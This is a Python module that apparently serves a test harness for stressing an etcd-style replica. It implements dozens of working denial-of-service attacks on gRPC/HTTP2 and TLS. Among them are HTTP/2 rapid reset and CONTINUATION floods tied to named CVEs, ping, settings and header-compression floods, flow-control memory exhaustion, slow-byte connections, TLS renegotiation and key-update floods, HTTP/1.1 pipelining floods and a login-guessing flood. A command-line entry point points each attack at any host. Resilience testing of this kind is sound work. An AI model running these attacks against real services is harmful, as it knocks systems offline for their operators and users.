"""What clients that mean harm do to a replica: an attack each, until its process is ended. hostile.py measures them beside honest
clients, storm.py has them beside other faults.

usage: attacks.py PB HOST:PORT SOURCE ATTACK   (on its own; plain)
"""
import ctypes
import os
import random
import resource
import select
import socket
import ssl
import struct
import sys
import threading
import time

import grpc

import channels
import tls_raw
from h2raw import (CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, HELLO, PING, PRIORITIZED, PRIORITY, RST, SETTINGS, WINDOW,
                   call, connect, frame, headers, literal, message, settings, tls_context)

if __name__ == "__main__":
    sys.path.insert(0, sys.argv[1])
import rpc_pb2 as pb  # noqa: E402

WATCHES = 200000


def channel_to(host, port, tls=None):
    opts = [("grpc.max_receive_message_length", -1), ("grpc.use_local_subchannel_pool", 1)]
    if tls:
        return channels.to(f"{host}:{port}", opts, grpc.ssl_channel_credentials(open(tls[0], "rb").read()))
    return channels.to(f"{host}:{port}", opts)


def received(s):
    """b"" at the end, whatever it is."""
    try:
        return s.recv(1 << 16)
    except OSError:
        return b""


def varint(n):
    out = b""
    while n > 127:
        out, n = out + bytes([n & 127 | 128]), n >> 7
    return out + bytes([n])


class Attack:
    """On HOST:PORT, from the address @source, or any; @tls: CA, certificate and key, or None."""

    def __init__(self, host, port, tls=None, source=None):
        self.host, self.port, self.source, self.files = host, port, source, tls
        self.tls = tls_context(tls[0]) if tls else None
        self.sent = self.refused = 0
        self.there = lambda: None  # says that all is there that is to be

    def connect(self, **kw):
        while True:
            try:
                return connect(self.port, self.tls, host=self.host, source=self.source, **kw)
            except OSError:
                self.refused += 1
                time.sleep(0.02)

    def flood(self, begin, more, n=4, read=True, **kw):
        """Keeps @n connections full of what more(stream) gives for ever; begins anew when one is ended."""
        conns = {}

        def fresh():
            s = self.connect(**kw)
            first = begin(s) if begin else b""
            s.setblocking(False)
            conns[s] = [first, 0]

        for _ in range(n):
            fresh()
        while True:
            r, w, _ = select.select(list(conns) if read else [], list(conns), [], 1)
            for s in r:
                try:
                    if not s.recv(1 << 18):
                        raise ConnectionError
                except (BlockingIOError, ssl.SSLWantReadError):
                    pass
                except OSError:
                    conns.pop(s, None)
                    s.close()
                    fresh()
            for s in w:
                if s not in conns:
                    continue
                state = conns[s]
                if not state[0]:
                    state[0] = more(state)
                try:
                    k = s.send(state[0])
                    self.sent += k
                    state[0] = state[0][k:]
                except (BlockingIOError, ssl.SSLWantWriteError, ssl.SSLWantReadError):
                    pass
                except OSError:
                    conns.pop(s, None)
                    s.close()
                    fresh()

    # -- what costs the loop --

    def empty_data(self):
        chunk = frame(DATA, 0, 1) * 20000
        self.flood(lambda s: frame(HEADERS, END_HEADERS, 1, headers(b"/etcdserverpb.Watch/Watch")), lambda st: chunk)

    def pings(self):
        chunk = frame(PING, 0, 0, b"x" * 8) * 10000
        self.flood(None, lambda st: chunk)

    def settings(self):
        chunk = frame(SETTINGS, 0, 0, b"\0\1\0\0\x10\0") * 10000
        self.flood(None, lambda st: chunk)

    def window_updates(self):
        self.flood(None, lambda st: frame(WINDOW, 0, 0, b"\0\0\0\1") * 10000)

    def priorities(self):
        chunk = b"".join(frame(PRIORITY, 0, 1 + 2 * i, b"\0\0\0\0\x10") for i in range(10000))
        self.flood(None, lambda st: chunk)

    def unknown_frames(self):
        chunk = frame(0x60, 0, 0, b"nothing") * 20000
        self.flood(None, lambda st: chunk)

    def frames_of_the_past(self):
        chunk = frame(DATA, 0, 1) * 20000
        self.flood(lambda s: frame(HEADERS, END_HEADERS, 1, headers(b"/etcdserverpb.Watch/Watch")) + frame(RST, 0, 1, b"\0\0\0\x08"), lambda st: chunk)

    def streams(self, per_stream, at_once=200):
        def more(state):
            first = state[1]
            state[1] += at_once
            return b"".join(per_stream(1 + 2 * i) for i in range(first, first + at_once))
        return more

    def of_all_streams(self, chunk, n=7000, more=lambda i: b""):
        """What makes a server go through all streams of a connection, on connections that have many."""
        def begin(s):
            return b"".join(frame(HEADERS, END_HEADERS | (PRIORITIZED if more(i) else 0), 1 + 2 * i, more(i) + headers(b"/etcdserverpb.Watch/Watch"))
                            for i in range(n))
        self.flood(begin, lambda st: chunk)

    def settings_of_all_streams(self):
        self.of_all_streams(b"".join(settings((4, 65535 + (i & 1))) for i in range(500)))

    def goodbyes(self):
        self.of_all_streams(frame(GOAWAY, 0, 0, b"\x7f\xff\xff\xfe" + bytes(4)) * 500)

    def tall_trees(self):
        """Each stream depends on the one before; then, which is the last of them is asked again and again."""
        def on(stream):
            return struct.pack(">IB", stream, 16)

        self.of_all_streams(b"".join(frame(PRIORITY, 0, 2 * 6998 - 1 - 2 * (i & 1), on(2 * 6999 + 1)) for i in range(500)),
                            more=lambda i: on(max(2 * i - 1, 0)))

    def rapid_reset(self):  # CVE-2023-44487
        body = pb.RangeRequest(key=b"big/", range_end=b"big0").SerializeToString()
        self.flood(None, self.streams(lambda i: call(i, b"/etcdserverpb.KV/Range", body) + frame(RST, 0, i, b"\0\0\0\x08")))

    def continuations(self):  # CVE-2024-27316
        chunk = frame(CONTINUATION, 0, 1, literal(b"x", b"y" * 100) * 100) * 20
        self.flood(lambda s: frame(HEADERS, 0, 1, headers(b"/etcdserverpb.KV/Range")), lambda st: chunk)

    def header_references(self):
        def begin(s):
            return frame(HEADERS, END_HEADERS, 1, headers(b"/etcdserverpb.KV/Range") + literal(b"token", b"t" * 3900, 0x40))
        refs = headers(b"/etcdserverpb.KV/Range") + b"\xbe" * 15000

        def more(state):
            state[1] += 20
            return b"".join(frame(HEADERS, END_HEADERS | END_STREAM, 1 + 2 * i, refs) for i in range(state[1] - 19, state[1] + 1))
        self.flood(begin, more)

    def small_calls(self):
        self.flood(None, self.streams(lambda i: call(i, b"/etcdserverpb.KV/Nothing", b"")))

    def renewals(self):
        chunk = frame(DATA, 0, 1, message(pb.LeaseKeepAliveRequest(ID=1).SerializeToString())) * 5000
        self.flood(lambda s: frame(HEADERS, END_HEADERS, 1, headers(b"/etcdserverpb.Lease/LeaseKeepAlive")), lambda st: chunk)

    def calls(self, path, body):
        """By gRPC's own hand, which minds the windows, in 8 threads for ever."""
        def run():
            with channel_to(self.host, self.port, self.files) as c:
                f = c.unary_unary(path, request_serializer=None, response_deserializer=None)
                while True:
                    try:
                        f(body, timeout=5)
                    except grpc.RpcError:
                        self.refused += 1

        for _ in range(8):
            threading.Thread(target=run, daemon=True).start()
        time.sleep(1000)

    def deep_messages(self):
        body = b""
        while len(body) < 74000:  # a transaction in a transaction in a transaction
            for tag in (4, 2):
                body = varint(tag << 3 | 2) + varint(len(body)) + body
        self.calls("/etcdserverpb.KV/Txn", body)

    def costly(self, *more):
        """A transaction that looks at as many keys as one may, and sorts them. Of more it would be refused, at no cost."""
        look = pb.RangeRequest(key=b"many/3", range_end=b"many/6", sort_target=pb.RangeRequest.VALUE, sort_order=pb.RangeRequest.DESCEND, limit=1)
        return pb.TxnRequest(success=[pb.RequestOp(request_range=look), *more]).SerializeToString()

    def costly_txns(self):
        """Each is a write, so that all replicas do it."""
        body = self.costly(pb.RequestOp(request_put=pb.PutRequest(key=b"costly", value=b"x")))
        with channel_to(self.host, self.port, self.files) as c:  # it counts as an attack only if it is not refused
            c.unary_unary("/etcdserverpb.KV/Txn", request_serializer=None, response_deserializer=None)(body, timeout=10)
        self.flood(None, self.streams(lambda i: call(i, b"/etcdserverpb.KV/Txn", body)), n=8)

    def costly_reads(self):
        """None is a write: as many as there may be at once, which one word of the majority lets go on."""
        body = self.costly()
        self.flood(None, self.streams(lambda i: call(i, b"/etcdserverpb.KV/Txn", body)), n=8)

    def hashes(self):
        """As many as there may be at once, of all keys: each takes many slices."""
        self.flood(None, self.streams(lambda i: call(i, b"/etcdserverpb.Maintenance/HashKV", b"")))

    def lease_lists(self):
        with channel_to(self.host, self.port, self.files) as c:
            grants = c.unary_unary("/etcdserverpb.Lease/LeaseGrant", request_serializer=None, response_deserializer=None)
            asked = [grants.future(pb.LeaseGrantRequest(TTL=20).SerializeToString(), timeout=10) for _ in range(20000)]
            for a in asked:
                self.refused += a.exception() is not None
        self.calls("/etcdserverpb.Lease/LeaseLeases", b"")

    def lock_crowds(self):
        """6,000 wait for a lock, while somebody deletes and compacts in one breath, so that it may be anybody's turn."""
        path = b"/v3lockpb.Lock/Lock"
        crowd = self.connect()
        crowd.setblocking(True)
        crowd.sendall(b"".join(call(1 + 2 * i, path, pb.LockRequest(name=b"crowd").SerializeToString()) for i in range(6000)))
        threading.Thread(target=lambda: [None for _ in iter(lambda: crowd.recv(1 << 16), b"")], daemon=True).start()
        with channel_to(self.host, self.port, self.files) as c:
            def ask(name, m):
                return c.unary_unary("/etcdserverpb.KV/" + name, request_serializer=None, response_deserializer=pb.PutResponse.FromString).future(
                    m.SerializeToString(), timeout=5)

            while True:
                try:
                    at = ask("Put", pb.PutRequest(key=b"crowded")).result().header.revision
                    both = [ask("DeleteRange", pb.DeleteRangeRequest(key=b"crowded")), ask("Compact", pb.CompactionRequest(revision=at + 1))]
                    self.refused += sum(x.exception() is not None for x in both)
                except grpc.RpcError:
                    self.refused += 1

    # -- what costs memory --

    def watches(self):
        """200,000, of keys that nobody writes, and of ranges beside them."""
        made, streams = threading.Semaphore(0), 8

        def run(at):
            with channel_to(self.host, self.port, self.files) as c:
                def ask():
                    for i in range(WATCHES // streams):
                        k = b"watched/%d/%d" % (at, i)
                        yield pb.WatchRequest(create_request=pb.WatchCreateRequest(key=k, range_end=k + b"0" if i % 4 == 0 else b"")).SerializeToString()
                    threading.Event().wait()
                for _ in c.stream_stream("/etcdserverpb.Watch/Watch", request_serializer=None, response_deserializer=None)(ask()):
                    made.release()

        for i in range(streams):
            threading.Thread(target=run, args=(i,), daemon=True).start()
        for _ in range(WATCHES):
            made.acquire()
        self.there()
        time.sleep(1000)

    def unread_ranges(self):
        body = pb.RangeRequest(key=b"big/", range_end=b"big0").SerializeToString()
        self.flood(None, self.streams(lambda i: call(i, b"/etcdserverpb.KV/Range", body)), n=8, read=False, receive=4096,
                   hello=settings((4, 0x7fffffff)) + frame(WINDOW, 0, 0, b"\x7f\0\0\0"))

    def zero_windows(self):
        body = pb.RangeRequest(key=b"big/", range_end=b"big0").SerializeToString()
        self.flood(None, self.streams(lambda i: call(i, b"/etcdserverpb.KV/Range", body)), n=8, hello=settings((4, 0)))

    def one_byte_windows(self):
        body = pb.RangeRequest(key=b"big/", range_end=b"big0").SerializeToString()

        def more(state):
            if state[1] < 2000:
                state[1] += 200
                return b"".join(call(1 + 2 * i, b"/etcdserverpb.KV/Range", body) for i in range(state[1] - 200, state[1]))
            return b"".join(frame(WINDOW, 0, 1 + 2 * i, b"\0\0\0\1") for i in range(2000))
        self.flood(None, more, n=8, hello=settings((4, 0)))

    def large_answers_to_writes(self):
        body = pb.PutRequest(key=b"big/0", value=b"x" * 60000, prev_kv=True).SerializeToString()
        self.flood(None, self.streams(lambda i: call(i, b"/etcdserverpb.KV/Put", body), 50), n=4, read=False, receive=4096,
                   hello=settings((4, 0x7fffffff)))

    def half_messages(self):
        def half(i):
            return frame(HEADERS, END_HEADERS, i, headers(b"/etcdserverpb.KV/Put")) + b"".join(
                frame(DATA, 0, i, (b"\0\0\x17\0\0" if k == 0 else b"") + b"x" * 16000) for k in range(4))
        self.flood(None, self.streams(half, 50), n=8)

    def half_watches(self):
        def half(i):
            return frame(HEADERS, END_HEADERS, i, headers(b"/etcdserverpb.Watch/Watch")) + frame(DATA, 0, i, b"\0\0\x17\0\0" + b"x" * 16000)
        self.flood(None, self.streams(half, 50), n=8)

    def refused_watches(self):
        create = pb.WatchCreateRequest(key=b"x", watch_id=7)
        chunk = frame(DATA, 0, 1, message(pb.WatchRequest(create_request=create).SerializeToString())) * 5000
        self.flood(lambda s: frame(HEADERS, END_HEADERS, 1, headers(b"/etcdserverpb.Watch/Watch")), lambda st: chunk, read=False,
                   receive=4096)

    def old_values(self):
        """Deletes at once what is large, before watches that want what was there and read nothing of it."""
        body = pb.WatchRequest(create_request=pb.WatchCreateRequest(key=b"old/", range_end=b"old0", prev_kv=True)).SerializeToString()
        watches = []
        for _ in range(8):
            s = self.connect(receive=4096, hello=settings((4, 0x7fffffff)) + frame(WINDOW, 0, 0, b"\x7f\0\0\0"))
            s.sendall(call(1, b"/etcdserverpb.Watch/Watch", body, end=False))
            watches.append(s)
        with channel_to(self.host, self.port, self.files) as c:
            def ask(path, m):
                answer = c.unary_unary("/etcdserverpb.KV/" + path, request_serializer=None, response_deserializer=pb.DeleteRangeResponse.FromString)(
                    m.SerializeToString(), timeout=10)
                return answer.header.revision

            while True:
                try:
                    for i in range(32):
                        ask("Put", pb.PutRequest(key=b"old/%d" % i, value=bytes(1 << 20)))
                    gone = ask("DeleteRange", pb.DeleteRangeRequest(key=b"old/", range_end=b"old0"))
                    time.sleep(1)
                    ask("Compact", pb.CompactionRequest(revision=gone))
                except grpc.RpcError:
                    self.refused += 1

    def unread(self, path, body, n):
        """@n connections that each ask once and read nothing. Who is ended comes again."""
        soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, max(soft, n + 100)), hard))
        poll, conns = select.poll(), {}

        def fresh():
            s = self.connect(receive=4096, hello=settings((4, 0x7fffffff)) + frame(WINDOW, 0, 0, b"\x7f\0\0\0"))
            try:
                s.sendall(call(1, path, body))
            except OSError:
                self.refused += 1
            conns[s.fileno()] = s
            poll.register(s, select.POLLRDHUP)

        for _ in range(n):
            fresh()
        self.there()
        while True:
            for fd, _ in poll.poll():
                poll.unregister(fd)
                conns.pop(fd).close()
                time.sleep(0.001)
                fresh()

    def unread_by_many(self):
        body = pb.RangeRequest(key=b"big/", range_end=b"big0")
        self.unread(b"/etcdserverpb.KV/Range", body.SerializeToString(), 450)

    def unread_txns_of_many(self):
        body = pb.TxnRequest(success=[pb.RequestOp(request_range=pb.RangeRequest(key=b"big/", range_end=b"big0"))])
        self.unread(b"/etcdserverpb.KV/Txn", body.SerializeToString(), 450)

    # -- what costs connections --

    def idle(self):
        conns = []
        while len(conns) < 4000:
            conns.append(self.connect())
        time.sleep(1000)

    def come_and_go(self):
        while True:
            self.connect().close()

    def slow_bytes(self):
        what = call(1, b"/etcdserverpb.KV/Range", b"\x0a\x01x")
        conns = [self.connect(hello=b"") for _ in range(500)]
        for i in range(1000):
            for s in conns:
                try:
                    s.send(what[i % len(what):][:1])
                except OSError:
                    pass
            time.sleep(1)

    # -- by HTTP/1.1 --

    def http_flood(self):
        """Requests one behind the other, without a look at an answer."""
        self.flood(None, lambda st: b"GET /version HTTP/1.1\r\nHost: x\r\n\r\n" * 200, hello=b"", preface=b"")

    def http_reads(self):
        """Reads of 1 MiB as JSON, pipelined, on connections that read them."""
        one = b'POST /v3/kv/range HTTP/1.1\r\nHost: x\r\nContent-Length: 41\r\n\r\n{"key":"YmlnLw==","range_end":"YmlnMA=="}'
        self.flood(None, lambda st: one * 10, hello=b"", preface=b"")

    def http_bodies(self):
        """JSON that nests, in bodies that never end; each is refused, and another one comes."""
        self.flood(lambda s: b"POST /v3/kv/txn HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n8000\r\n",
                   lambda st: b'{"success":[{"request_txn":' * 1000, n=8, hello=b"", preface=b"")

    # -- the rest --

    def reads(self):
        body = pb.RangeRequest(key=b"many/0/0").SerializeToString()
        self.flood(None, self.streams(lambda i: call(i, b"/etcdserverpb.KV/Range", body)), n=8)

    def logins(self):
        body = pb.AuthenticateRequest(name="root", password="guess").SerializeToString()
        self.flood(None, self.streams(lambda i: call(i, b"/etcdserverpb.Auth/Authenticate", body), 20), n=1)

    def garbage(self):
        r = random.Random(1)
        chunk = b"".join(frame(r.randrange(12), r.randrange(256), r.randrange(8), r.randbytes(r.randrange(64))) for _ in range(1000))
        self.flood(None, lambda st: chunk)

    # -- what only TLS has: by OpenSSL itself, since Python's module does not hand it on --

    def renegotiations(self):
        """Asks for another handshake in TLS 1.2 without end. Each is refused, by a word that costs more than to ask for it."""
        begin_one = b"\1\0\0\0"  # the head of a ClientHello is enough
        while True:
            try:
                c = tls_raw.Client(self.host, self.port)
            except OSError:
                self.refused += 1
                continue
            what = b"".join(c.record(tls_raw.HANDSHAKE, begin_one) for _ in range(100000))
            threading.Thread(target=lambda s=c.socket: [None for _ in iter(lambda: received(s), b"")], daemon=True).start()
            try:
                c.socket.sendall(what)
                self.sent += len(what)
            except OSError:
                self.refused += 1
            c.close()

    def key_updates(self):
        """New keys without end (RFC 8446, 4.6.3): none of it is a byte for who reads."""
        tls = ctypes.CDLL("libssl.so.3")
        for f in (tls.TLS_client_method, tls.SSL_CTX_new, tls.SSL_new):
            f.restype = ctypes.c_void_p
        context = ctypes.c_void_p(tls.SSL_CTX_new(ctypes.c_void_p(tls.TLS_client_method())))
        tls.SSL_CTX_set_alpn_protos(context, b"\x02h2", 3)
        tls.BIO_s_mem.restype = tls.BIO_new.restype = ctypes.c_void_p
        out, hello = ctypes.create_string_buffer(1 << 22), HELLO + settings()
        while True:
            plain = socket.create_connection((self.host, self.port))
            c = ctypes.c_void_p(tls.SSL_new(context))
            tls.SSL_set_fd(c, plain.fileno())
            there = tls.SSL_connect(c) == 1 and tls.SSL_write(c, hello, len(hello)) == len(hello)
            batch = ctypes.c_void_p(tls.BIO_new(ctypes.c_void_p(tls.BIO_s_mem())))
            tls.SSL_set0_wbio(c, batch)
            while there:  # many at once: the replica finds them in its socket
                for _ in range(100000):
                    tls.SSL_key_update(c, 0)
                    tls.SSL_do_handshake(c)
                n = tls.BIO_read(batch, out, len(out))
                try:
                    plain.sendall(out.raw[:n])
                except OSError:
                    there = False
                self.sent += n
            tls.SSL_free(c)
            plain.close()


COST_LOOP = ["empty_data", "pings", "settings", "window_updates", "priorities", "unknown_frames", "frames_of_the_past", "settings_of_all_streams", "goodbyes",
             "tall_trees", "rapid_reset", "continuations", "header_references",
             "small_calls", "renewals", "garbage", "deep_messages", "costly_txns", "costly_reads", "hashes",
             "lease_lists", "lock_crowds", "http_flood", "http_reads", "http_bodies"]
COST_MEMORY = ["unread_ranges", "zero_windows", "one_byte_windows", "large_answers_to_writes", "half_messages", "half_watches",
               "refused_watches", "watches", "old_values", "unread_by_many", "unread_txns_of_many"]
COST_CONNECTIONS = ["idle", "come_and_go", "slow_bytes"]
COST_TLS = ["key_updates", "renegotiations"]
ALL = COST_LOOP + COST_MEMORY + COST_CONNECTIONS + ["logins"]
# That leave the keys alone, and are at their height at once.
MILD = [a for a in ALL if a not in ("costly_txns", "large_answers_to_writes", "watches", "old_values", "lease_lists", "lock_crowds", "logins")]


def attack(name, *where, there=None, args=()):
    """For ever."""
    os.nice(10)  # an attacker has a machine of its own; here it takes what the replicas leave
    a = Attack(*where)
    a.there = there or a.there
    getattr(a, name)(*args)


if __name__ == "__main__":
    host, port = sys.argv[2].split(":")
    attack(sys.argv[4], host, int(port), None, sys.argv[3])
